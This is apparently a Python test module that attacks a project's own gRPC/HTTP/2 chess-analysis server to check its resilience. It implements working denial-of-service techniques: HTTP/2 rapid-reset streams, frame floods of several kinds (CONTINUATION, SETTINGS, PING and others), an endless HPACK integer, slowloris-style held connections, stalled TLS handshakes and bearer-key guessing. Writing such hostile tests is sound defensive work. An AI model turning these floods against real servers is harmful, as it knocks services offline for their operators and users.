"""The attacks: what somebody sends who wishes the server ill, from one address, for as long as he likes."""

import contextlib
import dataclasses
import itertools
import random
import select
import ssl
import struct
import threading
import time
import typing

from tests.hostile import http2
from tests.hostile.target import ENDLESS, go
from tests.integration.service import PATIENCE, analysis_pb2, reflection_pb2

REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

_BLOCK_BYTES = 1 << 18
_MAX_BYTES = 1 << 32  # of one attack
_STREAMS_PER_BLOCK = 1024
_UNAUTHENTICATED = 16
_RETURN_TIME = 0.02  # seconds, after a connection that was cut off

_LEGAL_MOVES = http2.SERVICE + "LegalMoves"
_HEADERS = http2.request_headers(_LEGAL_MOVES)


class Attacker:
    """Somebody at one address, for some seconds. He connects anew whenever he is cut off."""

    def __init__(self, address, seconds, source=None):
        self._address, self._source = address, source
        self._begun = time.monotonic()
        self._end = self._begun + seconds
        self.count = 0  # of what the attack counts: frames, streams, connections
        self.connections = 0
        self.cut_off_after = None  # seconds until a connection was taken from him for the first time

    def make(self, attack):
        """Attacks until the time is over. Returns how long that took."""
        while self.time_left() > 0:
            with contextlib.suppress(OSError):  # he is not even let in
                attack.act(self)
            time.sleep(max(0, min(_RETURN_TIME, self.time_left())))
        return time.monotonic() - self._begun

    def time_left(self):
        return self._end - time.monotonic()

    @contextlib.contextmanager
    def connection(self, **options):
        """HTTP/2, which begins with the client's first words."""
        self.connections += 1
        with http2.Connection(self._address, source=self._source, **options) as connection:
            yield connection
            if connection.closed:
                self.note_cut_off()

    def socket(self):
        """TCP, and no word yet."""
        self.connections += 1
        return http2.connect(self._address, self._source)

    def note_cut_off(self):
        if self.cut_off_after is None:
            self.cut_off_after = time.monotonic() - self._begun

    def hold(self, sockets):
        """Keeps them open until the time is over, or all of them are taken from him."""
        while sockets and self.time_left() > 0:
            for ended in select.select(sockets, [], [], self.time_left())[0]:
                with contextlib.suppress(OSError):
                    if ended.recv(1 << 16):
                        continue
                self.note_cut_off()
                sockets.remove(ended)


@dataclasses.dataclass(frozen=True)
class Attack:
    """act: one attempt of an attacker, which may end early when he is cut off; he makes another then.

    unit: what he counts.
    """
    name: str
    act: typing.Callable
    unit: str


def send_blocks(connection, blocks, seconds, reads=True):
    """Sends blocks of frames for a time, or until the server has enough. Returns how many bytes were sent."""
    sent, end = 0, time.monotonic() + seconds
    reader = threading.Thread(target=connection.discard_input)
    if reads:
        reader.start()
    for block in blocks:
        if sent >= _MAX_BYTES or not connection.send(block, end - time.monotonic()) or time.monotonic() > end:
            break
        sent += len(block)
    if reads:
        connection.shut_down()
        reader.join(PATIENCE)
    return sent


def resets(path, body):
    """Streams that begin and are reset at once. All but the numbers is the same, so a block is made fast."""
    whole, starts = _reset_stream(path, body)
    for first in range(1, 1 << 30, 2 * _STREAMS_PER_BLOCK):
        block = bytearray(whole * _STREAMS_PER_BLOCK)
        for place in range(_STREAMS_PER_BLOCK):
            for start in starts:
                struct.pack_into(">I", block, place * len(whole) + start + 5, first + 2 * place)
        yield bytes(block)


def _reset_stream(path, body):
    """The frames of one such stream, and where each of them starts."""
    headers = http2.frame(http2.HEADERS, http2.END_HEADERS, 0, http2.request_headers(path))
    data = http2.frame(http2.DATA, 0, 0, body) if body else b""
    reset = http2.frame(http2.RST_STREAM, 0, 0, struct.pack(">I", http2.CANCEL))
    return headers + data + reset, [0] + ([len(headers)] if body else []) + [len(headers) + len(data)]


def _flood(name, frame, first=b"", reads=True):
    """The same frame without end, after a first one."""
    block = frame * (_BLOCK_BYTES // len(frame))

    def act(attacker):
        with attacker.connection(acknowledge=False) as connection:
            blocks = itertools.chain([first] if first else [], itertools.repeat(block))
            attacker.count += send_blocks(connection, blocks, attacker.time_left(), reads) // len(frame)

    return Attack(name, act, "frames")


def _resets(name, path, body=b""):
    size = len(_reset_stream(path, body)[0])

    def act(attacker):
        with attacker.connection(acknowledge=False) as connection:
            attacker.count += send_blocks(connection, resets(path, body), attacker.time_left()) // size

    return Attack(name, act, "streams")


_OPEN_CALL = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, _HEADERS)
_OPEN_HEADERS = http2.frame(http2.HEADERS, 0, 1, _HEADERS)

FLOODS = [
    _flood("window updates of the connection", http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    _flood("window updates of a stream", http2.frame(http2.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), _OPEN_CALL),
    _flood("settings", http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 70_000))),
    _flood("settings, their acknowledgements not read", http2.frame(http2.SETTINGS, 0, 0), reads=False),
    _flood("pings", http2.frame(http2.PING, 0, 0, bytes(8))),
    _flood("priorities", http2.frame(http2.PRIORITY, 0, 1, struct.pack(">IB", 0, 1))),
    _flood("empty data", http2.frame(http2.DATA, 0, 1), _OPEN_CALL),
    _flood("empty continuations", http2.frame(http2.CONTINUATION, 0, 1), _OPEN_HEADERS),
    _flood("continuations with headers",
           http2.frame(http2.CONTINUATION, 0, 1, http2.literal("x-some", "y" * 100) * 150), _OPEN_HEADERS),
    _flood("one endless header", http2.frame(http2.CONTINUATION, 0, 1, b"y" * 16_000),
           http2.frame(http2.HEADERS, 0, 1, _HEADERS + http2.literal_start("x-large", 600 << 20))),
    # Every byte says that another follows, and adds nothing to the number.
    _flood("an endless HPACK integer", http2.frame(http2.CONTINUATION, 0, 1, b"\x80" * 16_000),
           http2.frame(http2.HEADERS, 0, 1, _HEADERS + b"\x00\x7f")),
]

RESETS = [
    _resets("resets before the request", _LEGAL_MOVES),
    _resets("resets of LegalMoves", _LEGAL_MOVES, http2.message(b"")),
    _resets("resets of analyses", http2.SERVICE + "Analyze", http2.message(ENDLESS.SerializeToString())),
    _resets("resets of sessions", http2.SERVICE + "AnalyzeSession", http2.message(go(infinite=True))),
    _resets("resets of reflection", REFLECTION,
            http2.message(reflection_pb2.ServerReflectionRequest(list_services="").SerializeToString())),
    _resets("resets of silent reflection", REFLECTION),
]


def _say_once(name, words):
    """A connection that begins with something else than HTTP/2, over and over."""

    def act(attacker):
        with attacker.socket() as peer:
            attacker.count += 1
            peer.sendall(words)
            peer.settimeout(max(attacker.time_left(), 0.001))
            while peer.recv(1 << 16):
                pass
        attacker.note_cut_off()

    return Attack(name, act, "connections")


def _hold_sockets(name, words, count=300):
    """Connections that say something, or nothing, and wait."""

    def act(attacker):
        with contextlib.ExitStack() as peers:
            sockets = []
            for _ in range(count):
                sockets.append(peers.enter_context(attacker.socket()))
                attacker.count += 1
                with contextlib.suppress(OSError):
                    sockets[-1].sendall(words)
            attacker.hold(sockets)

    return Attack(name, act, "connections")


def _unfinished_requests(attacker):
    request = http2.message(bytes(90_000), announced=90_001)
    with attacker.connection() as connection:
        while attacker.time_left() > 0 and not connection.closed:
            call = connection.open(_LEGAL_MOVES)
            attacker.count += connection.write(call, request, patience=min(1, max(attacker.time_left(), 0)))


def _endless_message(attacker):
    with attacker.connection() as connection:
        call = connection.open(_LEGAL_MOVES, http2.message(b"", announced=1 << 30))
        while attacker.time_left() > 0 and connection.write(call, bytes(1 << 20), patience=attacker.time_left()):
            attacker.count += 1


def _opened_and_cancelled(attacker):
    """As a client does it who is impatient, and not malicious: he acknowledges what the server says, and waits."""
    body = http2.message(ENDLESS.SerializeToString())
    with attacker.connection() as connection:
        begun = 1
        while begun and attacker.time_left() > 0:
            calls = [connection.open(http2.SERVICE + "Analyze", body, end=True) for _ in range(100)]
            streams = [connection.streams[call] for call in calls]
            connection.wait(lambda: all(stream.messages or stream.ended for stream in streams), attacker.time_left())
            for call in calls:
                connection.reset(call)
                del connection.streams[call]
            begun = sum(bool(stream.messages) for stream in streams)
            attacker.count += begun
        if attacker.time_left() > 0:
            attacker.note_cut_off()


def _unread_streams(attacker):
    request = analysis_pb2.AnalyzeRequest(limits=analysis_pb2.Limits(infinite=True), threads=1, multi_pv=256)
    request.min_update_interval.FromMilliseconds(0)
    body = http2.message(request.SerializeToString())
    with attacker.connection(window=0, reads=False) as connection:
        for _ in range(100):
            connection.open(http2.SERVICE + "Analyze", body, end=True)
            attacker.count += 1
        connection.wait(lambda: False, attacker.time_left())


def _vanishing_clients(attacker):
    body = http2.message(ENDLESS.SerializeToString())
    with attacker.connection() as connection:
        calls = [connection.open(http2.SERVICE + "Analyze", body, end=True) for _ in range(50)]
        connection.wait(lambda: any(connection.streams[call].messages for call in calls), attacker.time_left())
        connection.abort()
        attacker.count += 1


def _guess_keys(attacker):
    chance = random.Random(1)
    with attacker.connection() as connection:
        known = 1
        while known and attacker.time_left() > 0:
            calls = [connection.open(_LEGAL_MOVES, http2.message(b""), end=True,
                                     metadata=[("authorization", f"Bearer kbz_{chance.randbytes(30).hex()}")])
                     for _ in range(50)]
            streams = [connection.streams[call] for call in calls]
            connection.wait(lambda: all(stream.ended for stream in streams), attacker.time_left())
            known = sum(stream.status == _UNAUTHENTICATED for stream in streams)
            attacker.count += known
        if attacker.time_left() > 0:
            attacker.note_cut_off()


def client_hello():
    """The first bytes of a real TLS handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()


OTHERS = [
    _say_once("garbage", random.Random(1).randbytes(1 << 16)),
    _say_once("HTTP/1", b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100),
    _hold_sockets("silent connections", b""),
    _hold_sockets("half a preface", http2.PREFACE[:10]),
    Attack("requests without their last byte", _unfinished_requests, "requests"),
    Attack("a message without end", _endless_message, "MB"),
    Attack("analyses opened and cancelled", _opened_and_cancelled, "streams"),
    Attack("streams that are not read", _unread_streams, "streams"),
    Attack("clients that vanish", _vanishing_clients, "clients"),
]

# For a server in plaintext that lets anybody in.
ATTACKS = FLOODS + RESETS + OTHERS

# For one that speaks TLS, and one that asks for keys.
ON_TLS = [
    _hold_sockets("silence instead of a TLS handshake", b""),
    _hold_sockets("TLS handshakes that stall halfway", client_hello()[:100]),
    _hold_sockets("TLS handshakes that stall after the first words", client_hello()),
    _say_once("garbage instead of a TLS handshake", random.Random(2).randbytes(1 << 16)),
]
ON_KEYS = [Attack("key guessing", _guess_keys, "keys")]
